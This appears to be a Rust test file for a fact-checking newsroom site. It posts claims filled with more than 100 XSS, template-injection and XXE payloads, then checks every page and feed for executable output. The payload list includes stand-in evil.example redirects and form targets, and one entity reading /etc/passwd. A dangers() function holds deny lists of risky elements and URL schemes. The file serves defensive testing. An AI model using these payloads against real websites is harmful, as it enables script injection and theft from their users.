//! Markup and scripts typed into every field, looked for on every page: the page must have the same elements with the same
//! attributes as with harmless words, and nothing that runs.

use crate::claims::newsroom::Newsroom;
use crate::support::database::connect;
use factdesk::ids::ClaimId;
use proptest::prelude::*;
use scraper::{Html, Node};
use std::collections::BTreeMap;

/// How a browser may be made to run something: elements, handlers, ways out of attributes, scripts, comments and templates.
fn corpus() -> Vec<String> {
    let mut all: Vec<String> = [
        "<script>pwn()</script>",
        "<SCRIPT SRC=//evil.example/x></SCRIPT>",
        "<scr<script>ipt>pwn()</script>",
        "</script><script>pwn()</script>",
        "</title><script>pwn()</script>",
        "</textarea><script>pwn()</script>",
        "</style><script>pwn()</script>",
        "--><script>pwn()</script>",
        "]]><script>pwn()</script>",
        "<img src=x onerror=pwn()>",
        "<img src=x onerror=pwn()//",
        "<IMG SRC=\"x\" ONERROR=\"pwn()\">",
        "<img/src/onerror=pwn()>",
        "<img src=`x`onerror=pwn()>",
        "<svg onload=pwn()>",
        "<svg/onload=pwn()>",
        "<svg><script>pwn()</script></svg>",
        "<svg><style><img src=x onerror=pwn()></style></svg>",
        "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:pwn()><text>x</text></a></svg>",
        "<math><mi//xlink:href=\"data:x,<script>pwn()</script>\">",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
        "<iframe src=javascript:pwn()>",
        "<iframe srcdoc=\"<script>pwn()</script>\">",
        "<object data=javascript:pwn()>",
        "<embed src=javascript:pwn()>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><button>x</button></form>",
        "<button formaction=//evil.example>x</button>",
        "<input autofocus onfocus=pwn()>",
        "<body onload=pwn()>",
        "<details open ontoggle=pwn()>",
        "<video><source onerror=pwn()></video>",
        "<audio src=x onerror=pwn()>",
        "<marquee onstart=pwn()>",
        "<x onclick=pwn()>x</x>",
        "<a href=javascript:pwn()>x</a>",
        "<a href=\"java&#9;script:pwn()\">x</a>",
        "<a href=\" javascript:pwn()\">x</a>",
        "<a href='vbscript:pwn()'>x</a>",
        "<a href=data:text/html,<script>pwn()</script>>x</a>",
        "<style>*{background:url(//evil.example)}</style>",
        "<div style=\"background:url(javascript:pwn())\">x</div>",
        "<template><script>pwn()</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
        "<select><noembed></select><script>pwn()</script>",
        "<!--<img src=\"--><img src=x onerror=pwn()//\">",
        "<![CDATA[<script>pwn()</script>]]>",
        "<?xml-stylesheet href=javascript:pwn()?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "\" onmouseover=pwn() x=\"",
        "' onmouseover=pwn() x='",
        "\"><img src=x onerror=pwn()>",
        "'><img src=x onerror=pwn()>",
        "` onmouseover=pwn() `",
        "\" autofocus onfocus=pwn() \"",
        "\"><svg onload=pwn()><\"",
        "x\" hx-get=//evil.example hx-trigger=load \"",
        "<div hx-get=//evil.example hx-trigger=load></div>",
        "<div data-hx-on:load=pwn()></div>",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% include 'x' %}",
        "[[constructor.constructor('pwn()')()]]",
        "&lt;script&gt;pwn()&lt;/script&gt;",
        "&#60;script&#62;pwn()&#60;/script&#62;",
        "\u{2028}<script>pwn()</script>",
        "\u{feff}<script>pwn()</script>",
        "＜script＞pwn()＜/script＞",
        "%3Cscript%3Epwn()%3C/script%3E",
        "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
        "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
        "<script\u{b}>pwn()</script>",
        "<script/x>pwn()</script>",
        "<script\n>pwn()</script\n>",
        "<<script>pwn();//<</script>",
        "<plaintext>",
        "<xmp><script>pwn()</script></xmp>",
        "<isindex type=image src=1 onerror=pwn()>",
        "<keygen autofocus onfocus=pwn()>",
        "<portal src=//evil.example>",
        "[x](javascript:pwn())",
        "[x](JaVaScRiPt:pwn())",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](<javascript:pwn()>)",
        "[x]( javascript:pwn())",
        "![x](javascript:pwn())",
        "![x](//evil.example/x.png)",
        "[x]: javascript:pwn()",
        "<javascript:pwn()>",
        "`<script>pwn()</script>`",
        "[x\"onmouseover=pwn()](https://a.example)",
        "[x](https://a.example \"onmouseover=pwn()\")",
        "![\"onerror=pwn() x=\"](1)",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    for scheme in
        ["javascript:", "JAVASCRIPT:", "vbscript:", "data:text/html,", "java\tscript:", "livescript:"]
    {
        all.push(format!("<a href=\"{scheme}pwn()\">x</a>"));
    }
    all
}

/// Payloads put together to texts of at most so many characters.
fn texts(most: usize) -> Vec<String> {
    let mut all = vec![String::new()];
    for payload in corpus() {
        let last = all.last_mut().unwrap();
        if last.chars().count() + payload.chars().count() + 1 > most {
            all.push(payload);
        } else {
            last.push(' ');
            last.push_str(&payload);
        }
    }
    all
}

/// A published claim with `text` in each of its fields.
async fn claim_of(room: &Newsroom, text: &str, url: &str) -> ClaimId {
    let cut = |most: usize| text.chars().take(most).collect::<String>();
    let (long, title, name) = (cut(900), cut(480), cut(190));
    let fields = [
        ("text", long.as_str()),
        ("language", "en"),
        ("claimant", &name),
        ("claimant_name", &name),
        ("why", &long),
        ("title", &title),
        ("url", url),
        ("quote", &long),
        ("appeared_on", "2026-03-02"),
    ]
    .map(|(name, value)| (name.to_owned(), value.to_owned()));
    let logged = room.post("eve", "/desk/claims", &fields).await;
    assert_eq!(logged.status, 303, "{:?}", logged.all(".error, [role=alert]"));
    let id =
        logged.header("location").rsplit('/').next().unwrap().split(['?', '#']).next().unwrap().to_owned();
    let claim: ClaimId = id.parse().unwrap();
    room.does("ada", claim, "assignments", &[("person", &room.id("cleo"))]).await;
    for kind in ["primary", "data"] {
        let source = [
            ("title", title.as_str()),
            ("publisher", &name),
            ("kind", kind),
            ("stance", "refutes"),
            ("pasted", &long),
            ("quote", &long),
            ("url", url),
        ];
        room.does("cleo", claim, "sources", &source).await;
    }
    room.does("cleo", claim, "replies", &[("asked_on", "2026-03-03"), ("how", &name)]).await;
    room.does("eve", claim, "comments", &[("text", &long)]).await;
    let explanation = format!("{text}\n\nSo says the one. [#1]\n\nAnd the other. [#2]");
    let verdict = [("rating", "false"), ("summary", name.as_str()), ("explanation", &explanation)];
    room.does("cleo", claim, "verdict", &verdict).await;
    room.does("ben", claim, "approval", &[("publish", "yes")]).await;
    claim
}

/// What of a page could run, load or lead away, in words.
fn dangers(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let mut wrong = Vec::new();
    for element in page.tree.nodes().filter_map(|node| match node.value() {
        Node::Element(element) => Some((element, node)),
        _ => None,
    }) {
        let (element, node) = element;
        let name = element.name();
        if [
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "math",
            "video",
            "audio",
            "marquee",
            "template",
            "plaintext",
            "xmp",
            "portal",
            "x",
        ]
        .contains(&name)
        {
            wrong.push(format!("<{name}>"));
        }
        let is_code = name == "script" && element.attr("src").is_none_or(|src| !src.starts_with("/static/"));
        if is_code && element.attr("type") != Some("application/ld+json") {
            wrong.push("a script".to_owned());
        }
        if element.attr("type") == Some("application/ld+json") {
            let text: String = node
                .children()
                .filter_map(|child| child.value().as_text().map(|text| text.to_string()))
                .collect();
            if serde_json::from_str::<serde_json::Value>(&text).is_err() {
                wrong.push("JSON-LD that is none".to_owned());
            }
        }
        for (attribute, value) in element.attrs() {
            let bare: String = value
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_lowercase();
            let leads =
                ["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"].contains(&attribute);
            let evil = ["javascript:", "vbscript:", "livescript:", "data:text", "//evil"]
                .iter()
                .any(|begin| bare.starts_with(begin));
            if attribute.starts_with("on")
                || attribute == "style"
                || attribute.contains("hx-on")
                || leads && evil
                || attribute.starts_with("hx-") && evil
            {
                wrong.push(format!("<{name} {attribute}={value}>"));
            }
        }
    }
    wrong
}

/// How many elements of each name, with the names of their attributes.
fn shape(html: &str, outside_of: &str) -> BTreeMap<String, usize> {
    let page = Html::parse_document(html);
    let apart = scraper::Selector::parse(outside_of).unwrap();
    let apart: Vec<_> = page.select(&apart).map(|element| element.id()).collect();
    let mut counts = BTreeMap::new();
    for node in page.tree.nodes() {
        let Node::Element(element) = node.value() else { continue };
        if node.ancestors().any(|above| apart.contains(&above.id())) {
            continue;
        }
        let mut names: Vec<&str> = element.attrs().map(|(name, _)| name).collect();
        names.sort_unstable();
        *counts.entry(format!("{} {}", element.name(), names.join(" "))).or_default() += 1;
    }
    counts
}

#[tokio::test(flavor = "multi_thread")]
async fn markup_in_any_field_stays_words_on_every_page() {
    let room = Newsroom::open().await;
    assert!(corpus().len() >= 100);
    let words = "plain words and no more of them ".repeat(40);
    let (mut hostile, harmless) = (Vec::new(), claim_of(&room, &words, "https://a.example/wall").await);
    for text in texts(900) {
        hostile
            .push(claim_of(&room, &text, "https://a.example/?x=<script>pwn()</script>'\"onload=pwn()").await);
    }
    let owner = connect(room.owner_url()).await;
    let rows = owner
        .query("SELECT checks.claim::text, checks.slug FROM checks JOIN claims ON claims.id = checks.claim ORDER BY claims.number", &[])
        .await
        .unwrap();
    let slugs: BTreeMap<String, String> = rows.into_iter().map(|row| (row.get(0), row.get(1))).collect();
    let (twin, mut seen) = (harmless.to_string(), 0);
    for claim in hostile.iter().map(ToString::to_string) {
        for pattern in
            ["/desk/claims/ID", "/checks/SLUG", "/checks/SLUG/history", "/embed/SLUG", "/report/SLUG"]
        {
            let path = |id: &String| pattern.replace("ID", id).replace("SLUG", &slugs[id]);
            let page = room.get("ada", &path(&claim)).await;
            assert_eq!(page.status, 200, "{pattern}");
            assert_eq!(dangers(&page.text()), [""; 0], "{pattern}: {claim}");
            // An explanation may have what Markdown makes of it, and dangers() has looked at that.
            let (one, other) =
                (shape(&page.text(), ".prose"), shape(&room.get("ada", &path(&twin)).await.text(), ".prose"));
            assert_eq!(one, other, "{pattern}");
            seen += 1;
        }
    }
    let lists = [
        "/",
        "/checks",
        "/claimants",
        "/search?q=pwn",
        "/search?q=%3Cscript%3Epwn()%3C/script%3E%22onload=pwn()",
        "/corrections",
        "/desk",
        "/desk/claims",
        "/desk/claims?q=%22%3E%3Cimg%20src=x%20onerror=pwn()%3E",
        "/desk/board",
        "/desk/calendar",
        "/desk/activity",
        "/desk/workload",
        "/desk/inbox",
        "/desk/stats",
        "/login?next=%22%3E%3Cscript%3Epwn()%3C/script%3E",
        "/nothing/%3Cscript%3Epwn()%3C/script%3E",
    ];
    for path in lists {
        let page = room.get("ada", path).await;
        assert_eq!(dangers(&page.text()), [""; 0], "{path}");
    }
    for path in ["/feed.atom", "/feed.rss"] {
        let feed = room.get("ada", path).await;
        let read = feed_rs::parser::parse(feed.body.as_slice()).unwrap();
        assert!(read.entries.len() > hostile.len(), "{path}");
        assert!(!feed.text().contains("<script") && !feed.text().contains("<img"), "{path}");
    }
    for path in ["/feed.json", "/claimreview.json", "/api/v1/checks"] {
        let answer = room.get("ada", path).await;
        serde_json::from_slice::<serde_json::Value>(&answer.body).unwrap();
        assert!(
            answer.header("content-type").contains("json")
                && answer.header("x-content-type-options") == "nosniff",
            "{path}"
        );
    }
    assert!(seen >= 15);
}

/// JSON-LD as pages write it.
#[derive(askama::Template)]
#[template(
    source = r#"<title>x</title><script type="application/ld+json">{{ json_ld|json|safe }}</script><p>end</p>"#,
    ext = "html"
)]
struct Data {
    json_ld: serde_json::Value,
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]
    #[test]
    fn no_text_breaks_out_of_json_ld(
        text in r#"(</script|<script>|</SCRIPT |<!--|-->|\]\]>|\u{2028}|\u{2029}|[<>&'"\\/! a\x00-\x1f]){0,12}"#
    ) {
        let json_ld = serde_json::json!({ "name": text, "list": [text] });
        let html = askama::Template::render(&Data { json_ld: json_ld.clone() }).unwrap();
        let page = Html::parse_document(&html);
        let script = scraper::Selector::parse("script").unwrap();
        let scripts: Vec<String> = page.select(&script).map(|script| script.text().collect()).collect();
        prop_assert_eq!(scripts.len(), 1);
        prop_assert_eq!(serde_json::from_str::<serde_json::Value>(&scripts[0]).unwrap(), json_ld);
        let end = scraper::Selector::parse("body > p").unwrap();
        prop_assert_eq!(page.select(&end).count(), 1);
    }
}
